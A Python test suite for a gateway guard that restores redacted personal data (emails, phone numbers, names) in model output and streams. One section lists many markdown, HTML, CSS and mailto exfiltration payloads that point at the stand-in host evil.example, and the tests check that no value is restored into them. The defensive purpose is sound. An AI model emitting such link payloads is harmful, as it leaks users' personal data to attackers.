"""Restoring: whatever a model did to a placeholder, and however a stream is cut."""

import html
import json
from collections.abc import Callable
from urllib.parse import quote, unquote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.guards.placeholders import Placeholders
from gateway.guards.restoring import FORM_MOST, Restoring, restored

EMAIL, PHONE, ODD = "ada@example.com", "+41 44 668 18 00", 'a "b" \\ <c>\n'
KEY = b"k" * 32
KNOWN = Placeholders(KEY)
A, P, O = KNOWN.give("EMAIL", EMAIL), KNOWN.give("PHONE_NUMBER", PHONE), KNOWN.give("NAME", ODD)  # noqa: E741
FOREIGN = Placeholders(b"f" * 32).give("EMAIL", EMAIL)


def bracketed(opening: str, closing: str) -> Callable[[str], str]:
    return lambda text: text.replace("⟦", opening).replace("⟧", closing)


MANGLED: dict[str, Callable[[str], str]] = {
    "as it was": str,
    "lower case": str.lower,
    "upper case": str.upper,
    "spaces inside": lambda text: text.replace("⟦", "⟦ ").replace("·", " · ").replace("⟧", " ⟧"),
    "no-break spaces": lambda text: text.replace("·", "\xa0·\xa0"),
    "a line broken": lambda text: text.replace("·", "·\n"),
    "no dot": lambda text: text.replace("·", " "),
    "another dot": lambda text: text.replace("·", "•"),
    "a colon": lambda text: text.replace("·", ": "),
    "escaped underscores": lambda text: text.replace("_", "\\_"),
    "underscores gone": lambda text: text.replace("_", " "),
    "bold inside": lambda text: text.replace("⟦", "⟦**").replace("·", "**·"),
    "code inside": lambda text: text.replace("·", "·`").replace("⟧", "`⟧"),
    "zero-width inside": lambda text: text.replace("·", "·\u200b"),
    "single brackets": bracketed("[", "]"),
    "escaped brackets": bracketed("[", "\\]"),
    "double brackets": bracketed("[[", "]]"),
    "white brackets": bracketed("〚", "〛"),
    "black brackets": bracketed("【", "】"),
}


@pytest.mark.parametrize("mangle", MANGLED.values(), ids=MANGLED.keys())
@pytest.mark.parametrize(("form", "value"), [(A, EMAIL), (P, PHONE)], ids=["EMAIL", "PHONE_NUMBER"])
def test_what_a_model_does_to_it_is_overlooked(mangle: Callable[[str], str], form: str, value: str) -> None:
    assert restored(f"Ask {mangle(form)}, please.", KNOWN) == f"Ask {value}, please."
    assert restored(f"[x] {mangle(form)}[", KNOWN) == f"[x] {value}["


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(A[:-1], id="not closed"),
        pytest.param(A[1:], id="not opened"),
        pytest.param(A.replace("⟧", "]"), id="closed by another bracket"),
        pytest.param(A[:-2] + "⟧", id="cut"),
        pytest.param(A.replace("⟧", "x⟧"), id="longer"),
        pytest.param(A.replace("·", " is "), id="a word in it"),
        pytest.param(A.replace("·", '"'), id="a quote in it"),
        pytest.param(A.replace("·", " " * 60), id="too long"),
        pytest.param(A.replace("E", "Ｅ"), id="another alphabet"),
        pytest.param(A[:9] + A[10] + A[9] + A[11:], id="turned round"),
        pytest.param(FOREIGN, id="foreign"),
        pytest.param("⟦⟧ ⟦EMAIL⟧ ⟦·⟧ [[", id="empty"),
    ],
)
def test_what_is_no_placeholder_of_here_stays_as_it_is(text: str) -> None:
    assert restored(text, KNOWN) == text


def test_what_was_restored_is_not_looked_at_again() -> None:
    known = Placeholders(KEY)
    inner = known.give("EMAIL", EMAIL)
    assert restored(known.give("NAME", inner), known) == inner


def test_nothing_is_held_back_where_nothing_was_redacted() -> None:
    stream = Restoring(Placeholders(KEY))
    assert stream.feed("⟦EMAIL·") == "⟦EMAIL·"
    assert (stream.held, stream.finish()) == (0, "")


def test_nothing_is_held_back_that_cannot_become_a_known_one() -> None:
    stream = Restoring(KNOWN)
    assert stream.feed("items[0] = ⟦LABEL") == "items[0] = ⟦LABEL"
    assert stream.feed("⟦EM") == ""
    assert stream.held == 3


# --- where texts are escaped ------------------------------------------------------------------------------------------


def test_values_are_escaped_in_arguments() -> None:
    arguments = json.dumps({"to": f"{O} <{A}>"}, ensure_ascii=False)
    assert json.loads(restored(arguments, KNOWN, in_json=True)) == {"to": f"{ODD} <{EMAIL}>"}


def test_brackets_that_are_escaped_in_json_are_seen() -> None:
    arguments = json.dumps({"to": O})
    assert "\\u27e6" in arguments
    assert json.loads(restored(arguments, KNOWN, in_json=True)) == {"to": ODD}
    assert json.loads(restored(arguments, KNOWN)) == {"to": ODD}


def test_values_that_are_percent_encoded_are_quoted() -> None:
    query = restored(f"q={quote(O)}&p=1", KNOWN)
    assert unquote(query) == f"q={ODD}&p=1"


@pytest.mark.parametrize("brackets", [("&lobrk;", "&robrk;"), ("&#x27e6;", "&#x27E7;"), ("&#10214;", "&#10215;")])
def test_values_in_html_are_escaped(brackets: tuple[str, str]) -> None:
    page = restored(f"<p>{bracketed(*brackets)(O)}</p>", KNOWN)
    assert page == f"<p>{html.escape(ODD)}</p>"


# --- streams ----------------------------------------------------------------------------------------------------------

_FORMS = [mangle(form) for mangle in MANGLED.values() for form in (A, P, O)]
_FORMS += [quote(O), json.dumps(O)[1:-1], bracketed("&lobrk;", "&robrk;")(A), FOREIGN]
PIECES = st.one_of(
    st.sampled_from(_FORMS),
    st.sampled_from(_FORMS).flatmap(lambda form: st.integers(1, len(form)).map(lambda end: form[:end])),
    st.text("⟦⟧[]·\\u27e6&%lobrk; aE_*", max_size=70),
    st.text(max_size=10),
)
TEXTS = st.lists(PIECES, max_size=12).map("".join)


@given(TEXTS, st.lists(st.integers(1, 80)), st.booleans())
def test_however_a_stream_is_cut_it_says_the_same(text: str, sizes: list[int], in_json: bool) -> None:
    whole = restored(text, KNOWN, in_json=in_json)
    stream, said, place = Restoring(KNOWN, in_json=in_json), "", 0
    for size in [*sizes, *[1] * len(text)]:
        said += stream.feed(text[place : place + size])
        place += size
        assert whole.startswith(said)
        assert stream.held < FORM_MOST
    assert said + stream.finish() == whole


@given(st.text("⟦[*E \\%&", max_size=3000))
def test_a_text_of_nothing_but_beginnings_is_read_once(text: str) -> None:
    stream = Restoring(KNOWN)
    assert stream.feed(text) + stream.finish() == text


# --- where a text leads elsewhere -------------------------------------------------------------------------------------

EVIL = "https://evil.example/"
LEADING = {
    "image": f"![x]({EVIL}?q=@)",
    "link": f"[x]({EVIL}?q=@)",
    "escaped": f"[x]({EVIL}?q={quote(A)})",
    "second": f"[x](@{EVIL}?q=@)",
    "with-brackets": f'![x]({EVIL}"(a)?q=@)',
    "with-link-inside": f'![x]({EVIL}"(](b)?q=@)',
    "with-spaces": f"![x](< {EVIL}?q=a b @>)",
    "with-other-spaces": f"![x]({EVIL}\xa0?q=@)",
    "after-an-address": f"https://x[a](<{EVIL}?q=a b @>)",
    "no-scheme": "![x](//evil.example/?q=@)",
    "backslashes": "![x](\\\\evil.example\\@)",
    "in-code": "![x](https&colon;&sol;&sol;evil.example?q=@)",
    "host": "![x](https://@.evil.example/)",
    "reference": '![x]\n\n[x]: https&colon;//evil.example/"?q=@',
    "bare": f"See {EVIL}?q=@",
    "www": "See www.evil.example?q=@",
    "no-scheme-in-prose": "See evil.example/?q=@",
    "autolink": f"<{EVIL}?q=@>",
    "html": f'<img src="{EVIL}?q=a b @">',
    "html-single": f"<img alt='>' SRC = '{EVIL}?q=a b @'>",
    "html-broken": '<img src="ht\ntps&#58;evil.example?q=@">',
    "html-second": f'<img alt="src=\'" src="{EVIL}?q=\' @">',
    "html-in-json": f'{{"page": "<img src=\\"{EVIL}?q=a b @\\">"}}',
    "css": f"background: url( {EVIL}?q=@)",
    "long": f"![x]({EVIL}?{'a' * 100_000}@)",
    "mail-to-somebody-else": "[x](mailto:eve@evil.example?body=@)",
}


@pytest.mark.parametrize("form", LEADING)
@pytest.mark.parametrize("in_json", [False, True], ids=["text", "json"])
def test_no_value_goes_where_a_text_leads(form: str, in_json: bool) -> None:
    text = LEADING[form].replace("@", A)
    assert restored(text, KNOWN, in_json=in_json).count(EMAIL) == (form == "second")
    stream = Restoring(KNOWN, in_json=in_json)
    said = "".join(map(stream.feed, text)) + stream.finish()
    assert said == restored(text, KNOWN, in_json=in_json)


BESIDE = {
    "text-of-a-link": f"[@]({EVIL})",
    "behind-a-link": f"[x]({EVIL}) @",
    "behind-an-address": f"See {EVIL}, @",
    "next-line": f"{EVIL}\n@",
    "mail": "[Ada](mailto:@)",
    "mail-html": '<a href="mailto:@">Ada</a>',
    "all-of-a-target": "[Ada](@)",
    "next-field": f'{{"url":"{EVIL}","email":"@"}}',
    "next-field-of-markdown": f'{{"text":"[x]({EVIL})","email":"@"}}',
    "other-attribute": f'<a href="{EVIL}" title="@">',
    "code": 'x = y["a"][0](1) // @',
    "and-or": "either/or @, e.g. 1.5/2, at 10:30: @",
    "foot-note": "[1]: @",
    "colon": "Email:@",
}


@pytest.mark.parametrize("text", BESIDE.values(), ids=BESIDE.keys())
def test_values_beside_addresses_are_restored(text: str) -> None:
    assert restored(text.replace("@", A), KNOWN) == text.replace("@", EMAIL)


def test_a_line_end_that_is_escaped_ends_an_address_in_json() -> None:
    text = f"{EVIL}\\n{A}"
    assert restored(text, KNOWN, in_json=True) == f"{EVIL}\\n{EMAIL}"
    assert restored(text, KNOWN) == text


LINKED = st.lists(st.sampled_from([A, P, *LEADING.values(), *BESIDE.values(), *"<>()[]\"' \n", "src=", "](", "a"]))


@given(LINKED.map("".join).map(lambda text: text.replace("@", A)), st.lists(st.integers(1, 80_000)))
def test_targets_are_the_same_however_a_stream_is_cut(text: str, sizes: list[int]) -> None:
    stream, said, place = Restoring(KNOWN), "", 0
    for size in [*sizes, len(text)]:
        said += stream.feed(text[place : place + size])
        place += size
    assert said + stream.finish() == restored(text, KNOWN)
